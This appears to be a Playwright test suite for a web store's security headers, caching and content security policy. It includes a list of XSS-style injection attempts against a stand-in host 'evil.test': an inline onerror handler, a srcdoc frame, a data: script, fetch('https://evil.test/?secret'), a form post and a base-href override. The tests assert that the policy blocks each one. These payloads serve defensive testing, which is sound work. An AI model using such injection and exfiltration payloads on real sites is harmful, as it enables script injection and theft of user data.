/**
 * Response headers of the servers: a content security policy that runs the store's own code only, and headers that restrict
 * the use of its answers. Every other story fails when one of its pages violates its policy (harness/test.ts).
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { findChromium } from '@manying/build/chromium';
import { shellListener } from '@manying/release/serve';
import { type APIResponse, chromium, type Page } from '@playwright/test';
import { coinBalance, creditAccount, registerUser, storedUser } from '../harness/account.ts';
import { startFilm } from '../harness/film.ts';
import { mainStore } from '../harness/mainStore.ts';
import { goToCashier, payReturn } from '../harness/payment.ts';
import {
  activePage,
  expectPictureLoaded,
  tab,
  waitForFullLoad,
  waitForTransition,
} from '../harness/phone.ts';
import { serveRemote } from '../harness/remoteServer.ts';
import { buildsOf, type EditableRegistry } from '../harness/shellServer.ts';
import { expect, test } from '../harness/test.ts';

test.describe.configure({ mode: 'parallel' });

/** An address of each kind of answer. */
async function addresses(get: (address: string) => Promise<APIResponse>): Promise<Record<string, string>> {
  const { origins } = mainStore();
  const index = await (await get(`${origins.shell}/index`)).text();
  const script = /"scripts":\["([^"]+)"/.exec(index)?.[1] ?? '';
  const registry = (await (await get(`${origins.shell}/remotes.json`)).json()) as EditableRegistry;
  const manifest = registry.remotes.comic?.current.manifest ?? '';
  return {
    index: `${origins.shell}/book/1001`,
    desktop: `${origins.shell}/h5/pc`,
    inApp: `${origins.shell}/h5/wechat`,
    worker: `${origins.shell}/sw.js`,
    script: origins.shell + script,
    document: `${origins.shell}/site.json`,
    nothing: `${origins.shell}/js/nothing.js`,
    manifest,
    build: new URL(registry.remotes.comic?.current.files?.entry ?? '', manifest).href,
    api: `${origins.provider}/api/book/home/index`,
    refusal: `${origins.provider}/api/nonsense`,
    health: `${origins.provider}/health`,
    picture: `${origins.provider}/img/cover/1001_180_0.img`,
    media: `${origins.provider}/media/ads/tea.mp4`,
    report: `${origins.provider}/h5/report?vueReturnUrl=${encodeURIComponent(origins.shell)}`,
  };
}

type Kind = keyof Awaited<ReturnType<typeof addresses>>;

const DENY_ALL = "default-src 'none'";
const ALL: readonly Kind[] = [
  ...['index', 'desktop', 'inApp', 'worker', 'script', 'document', 'nothing', 'manifest', 'build'],
  ...['api', 'refusal', 'health', 'picture', 'media', 'report'],
];
const PAGES: readonly Kind[] = ['index', 'desktop', 'inApp', 'report'];
const allExcept = (...kinds: readonly Kind[]) => ALL.filter((kind) => !kinds.includes(kind));

/** Header, expected value, and the kinds of answers that have it; `null` expects no such header. */
const HEADERS: readonly (readonly [string, string | RegExp | null, readonly Kind[]])[] = [
  ['X-Content-Type-Options', 'nosniff', ALL],
  ['Content-Security-Policy', DENY_ALL, ALL],
  ['Content-Security-Policy', /script-src 'self' http[^;]* 'sha256-[^;]*;/, ['index']],
  ['Content-Security-Policy', "frame-ancestors 'self'", ['index', 'report']],
  ['Content-Security-Policy', "frame-ancestors 'none'", allExcept('index', 'report')],
  ['Content-Security-Policy', "require-trusted-types-for 'script'", PAGES],
  ['Content-Security-Policy', /^(?!.*unsafe-eval)(?!.*script-src[^;]*unsafe-inline)/, ALL],
  ['Content-Security-Policy', /^(?!.*upgrade-insecure-requests)/, ALL],
  ['Referrer-Policy', 'strict-origin-when-cross-origin', ['index', 'desktop', 'inApp', 'script', 'build']],
  ['Referrer-Policy', 'no-referrer', ['api', 'picture', 'media']],
  ['Referrer-Policy', 'same-origin', ['report']],
  ['Permissions-Policy', /camera=\(\).*geolocation=\(\).*unload=\(\)/, PAGES],
  ['Permissions-Policy', /autoplay=\(self\).*fullscreen=\(self\)/, ['index']],
  ['Permissions-Policy', null, allExcept(...PAGES)],
  ['Cross-Origin-Opener-Policy', /^same-origin/, PAGES],
  ['Cross-Origin-Resource-Policy', 'cross-origin', ['build', 'manifest', 'picture', 'media']],
  ['Cross-Origin-Resource-Policy', 'same-origin', allExcept('build', 'manifest', 'picture', 'media')],
  ['Access-Control-Allow-Origin', '*', ['build', 'manifest', 'picture', 'media']],
  ['Strict-Transport-Security', null, ALL],
  ['Cache-Control', 'no-cache', ['index']],
  ['ETag', /^".+"$/, ['index']],
];

for (const [header, expected, kinds] of HEADERS) {
  test(`${header}: ${expected} for ${kinds.join(', ')}`, async ({ request }) => {
    const get = (address: string) => request.get(address);
    const all = await addresses(get);
    for (const kind of kinds) {
      const value = (await get(all[kind] ?? '')).headers()[header.toLowerCase()];
      if (expected === null) expect(value, kind).toBeUndefined();
      else if (typeof expected === 'string') expect(value, kind).toContain(expected);
      else expect(value, kind).toMatch(expected);
    }
  });
}

test('the page is answered with 304 while it is unchanged, and sent again after a change', async ({
  request,
  shellServer,
}) => {
  const first = await request.get(`${shellServer.origin}/home`);
  const etag = first.headers().etag ?? '';
  const again = await request.get(`${shellServer.origin}/home`, { headers: { 'If-None-Match': etag } });
  expect(again.status()).toBe(304);
  expect(again.headers()['content-security-policy']).toBe(first.headers()['content-security-policy']);
  shellServer.planPage('comic', '/shelf', '别的书架');
  const changed = await request.get(`${shellServer.origin}/home`, { headers: { 'If-None-Match': etag } });
  expect(changed.status()).toBe(200);
});

/** Records the policy violations of a page with directive and address. @returns a function that reads them. */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { violations: seen });
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  return () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}

test('a visit to the store causes no policy violation', async ({ page }) => {
  const readViolations = await recordViolations(page);
  await page.goto('/index');
  await waitForFullLoad(page);
  await page.goto('/book/1026/catalog');
  await activePage(page).getByRole('button', { name: '离线保存' }).tap();
  await activePage(page)
    .getByRole('button', { name: /^保存 第2话/ })
    .tap();
  await expect(activePage(page).getByText('已保存').first()).toBeVisible();
  expect(await readViolations()).toEqual([]);
  await page.goto('/book/read/1001/1');
  await expectPictureLoaded(page.getByRole('img', { name: '第 1 页', exact: true }));
  expect(await readViolations()).toEqual([]);
  await page.goto('/vod/detail?vodId=2002');
  await startFilm(page);
  await expect(activePage(page).locator('.xgplayer')).toBeVisible();
  expect(await readViolations()).toEqual([]);
  await registerUser(page);
  await tab(page, '漫画').tap();
  await waitForTransition(page);
  expect(await readViolations()).toEqual([]);
  await page.goto('/purchase');
  await goToCashier(page, /1000.*无赠送/);
  expect(await readViolations()).toEqual([]);
});

test.describe('on a desktop', () => {
  test.use({ userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/140.0.0.0', isMobile: false });

  test('the QR code page can frame the store, and no other site can frame either', async ({
    page,
    store,
    log,
  }) => {
    const readViolations = await recordViolations(page);
    await page.goto('/h5/pc?to=%2Findex');
    await expect(page.getByRole('img', { name: /二维码/ })).toBeVisible();
    await expect(page.frameLocator('#preview').getByRole('heading', { name: '编辑推荐' })).toBeVisible();
    expect(await readViolations()).toEqual([]);

    log.allowPolicyViolations();
    let framed = '';
    const otherSite = createServer((_, response) => {
      response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${framed}"></iframe>`);
    });
    await new Promise<void>((resolve) => otherSite.listen(0, '127.0.0.1', resolve));
    try {
      for (const address of [`${store.origins.shell}/index`, `${store.origins.shell}/h5/pc`]) {
        framed = address;
        const response = page.waitForResponse(address);
        await page.goto(`http://127.0.0.1:${(otherSite.address() as AddressInfo).port}/`);
        await response;
        await expect.poll(() => page.frames()[1]?.url(), address).toMatch(/^chrome-error:/);
      }
    } finally {
      otherSite.closeAllConnections();
      await new Promise((resolve) => otherSite.close(resolve));
    }
  });
});

/** Global variable that hostile code sets when it runs. */
const hostileMark = (page: Page) => page.evaluate(() => (window as unknown as { hostile?: string }).hostile);

test('an injected script does not run, however it was injected', async ({ page, store, log }, {
  parallelIndex,
}) => {
  log.allowPolicyViolations();
  const scriptUrl = 'https://evil.test/steal.js';
  await page.route(scriptUrl, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.hostile = "off the list"' }),
  );
  const answer = shellListener(store.shellBuild, join(store.data, 'site'));
  // A man in the middle changes the page, but not its headers.
  const tamperingServer = createServer((request, response) => {
    if (request.url !== '/index') return answer(request, response);
    delete request.headers['accept-encoding'];
    const end = response.end.bind(response) as (body: string) => typeof response;
    response.end = ((html: string) =>
      end(
        html.replace(
          '<div id="root">',
          `<script>window.hostile = "inline"</script><script src="${scriptUrl}"></script>` +
            '<img src="/x" onerror="window.hostile = 1"><div id="root">',
        ),
      )) as typeof response.end;
    return answer(request, response);
  });
  const port = store.storyShellPorts[parallelIndex];
  await new Promise<void>((resolve) => tamperingServer.listen(port, 'localhost', resolve));
  try {
    const readViolations = await recordViolations(page);
    await page.goto(`http://localhost:${port}/index`);
    await expect(page.getByRole('heading', { name: '编辑推荐' })).toBeVisible();
    await expect.poll(async () => (await readViolations()).length).toBeGreaterThanOrEqual(3);
    expect(await readViolations()).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^script-src-elem inline/),
        expect.stringMatching(/^script-src-elem https:\/\/evil\.test/),
        expect.stringMatching(/^script-src-attr inline/),
      ]),
    );
    expect(await hostileMark(page)).toBeUndefined();
  } finally {
    tamperingServer.closeAllConnections();
    await new Promise((resolve) => tamperingServer.close(resolve));
  }
});

const INJECTIONS: readonly (readonly [name: string, attempt: () => void])[] = [
  [
    'a script element of text',
    () => {
      const script = document.createElement('script');
      script.text = 'window.hostile = 1';
      document.head.append(script);
    },
  ],
  [
    'a script from elsewhere',
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.test/steal.js';
      document.head.append(script);
    },
  ],
  [
    'a script of data',
    () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.hostile=1';
      document.head.append(script);
    },
  ],
  [
    'markup with a handler',
    () => {
      const place = document.createElement('div');
      document.body.append(place);
      place.innerHTML = '<img src=x onerror="window.hostile = 1">';
    },
  ],
  [
    'a frame of markup',
    () => document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>top.hostile=1</script>">'),
  ],
  [
    'a frame from elsewhere',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.test/';
      document.body.append(frame);
    },
  ],
  [
    'a timer of text',
    () => {
      setTimeout('window.hostile = 1' as unknown as () => void);
    },
  ],
  [
    'a worker of a blob',
    () => {
      new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    },
  ],
  [
    'a policy of its own',
    () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy('mine', {});
    },
  ],
  [
    'a call to elsewhere',
    () => {
      void fetch('https://evil.test/?secret').catch(() => undefined);
    },
  ],
  [
    'a form to elsewhere',
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.test/';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'another base',
    () => {
      const base = document.createElement('base');
      base.href = 'https://evil.test/';
      document.head.append(base);
    },
  ],
];

test('code injected into the page cannot load scripts or send data', async ({ page, log }) => {
  log.allowPolicyViolations();
  log.allowErrors(/./);
  const readViolations = await recordViolations(page);
  const requestedUrls: string[] = [];
  await page.route('https://evil.test/**', (route) => {
    requestedUrls.push(route.request().url());
    return route.fulfill({ body: 'window.hostile = 1' });
  });
  await page.goto('/index');
  await waitForFullLoad(page);
  for (const [name, attempt] of INJECTIONS) {
    const before = (await readViolations()).length;
    // Runs the code from a timer, so that an error of one attempt does not fail the story.
    await page.evaluate(`setTimeout(${attempt})`);
    const textOnly = name === 'markup with a handler' || name === 'a frame of markup';
    if (textOnly) await expect(page.getByText(/onerror|srcdoc/).last()).toBeAttached();
    else await expect.poll(async () => (await readViolations()).length, name).toBeGreaterThan(before);
  }
  expect(await hostileMark(page)).toBeUndefined();
  expect(new URL(page.url()).pathname).toBe('/index');
  expect(requestedUrls).toEqual([]);
});

test('a build from an origin that the policy of an open page lacks reloads the page', async ({
  page,
  shellServer,
  store,
  log,
}) => {
  log.allowPolicyViolations();
  await page.goto(`${shellServer.origin}/index`);
  await waitForFullLoad(page);
  await page.evaluate(() => Object.assign(window, { opened: 'before' }));
  const other = await serveRemote(buildsOf('video'));
  try {
    shellServer.editRegistry(({ remotes }) => {
      if (!remotes.video) throw new Error('remotes.json has no video');
      const { current } = remotes.video;
      current.manifest = other.origin + new URL(current.manifest).pathname;
    });
    // The open page has the old registry, whose build is no longer available.
    await page.route(`${store.origins.video}/**`, (route) => route.abort());
    await tab(page, '看视频').tap();
    await expect(page.getByRole('region', { name: '每日推荐' })).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { opened?: string }).opened)).toBeUndefined();
    await expect(page).toHaveURL(/\/vod$/);
  } finally {
    await other.stop();
  }
});

test('the store does not prevent the back/forward cache after the cashier', async ({ store }) => {
  // Playwright disables the back/forward cache by default.
  const browser = await chromium.launch({
    ...findChromium(),
    args: ['--no-sandbox'],
    ignoreDefaultArgs: ['--disable-back-forward-cache'],
  });
  try {
    const context = await browser.newContext({
      baseURL: store.origins.shell,
      hasTouch: true,
      isMobile: true,
      viewport: { width: 390, height: 844 },
      userAgent:
        'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36',
    });
    const page = await context.newPage();
    const session = await context.newCDPSession(page);
    await session.send('Page.enable');
    const reasons: string[] = [];
    session.on('Page.backForwardCacheNotUsed', ({ notRestoredExplanations }) => {
      reasons.push(...notRestoredExplanations.map(({ reason }) => reason));
    });
    await page.goto('/purchase');
    await waitForFullLoad(page);
    await page.evaluate(() => Object.assign(window, { wasRestored: true }));
    await goToCashier(page, /1000.*无赠送/);
    await page.goBack();
    await expect(page.getByRole('heading', { name: '购买金币' })).toBeVisible();
    const wasRestored = await page.evaluate(() => 'wasRestored' in window);
    // Headless Chromium has no such cache, but reports every other reason that would prevent it.
    if (!wasRestored) expect(reasons).toEqual(['BackForwardCacheDisabledForDelegate']);
  } finally {
    await browser.close();
  }
});

test('a page restored from the back/forward cache shows the new balance', async ({
  page,
  store,
  request,
}) => {
  await page.goto('/user');
  await expect(coinBalance(page)).toHaveText('0');
  await waitForFullLoad(page);
  const { account } = await storedUser(page);
  await creditAccount(request, store.origins.provider, account, { coins: 1000 });
  await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true })));
  await expect(coinBalance(page)).toHaveText('1000');
  await expect(payReturn(page)).toHaveCount(0);
});
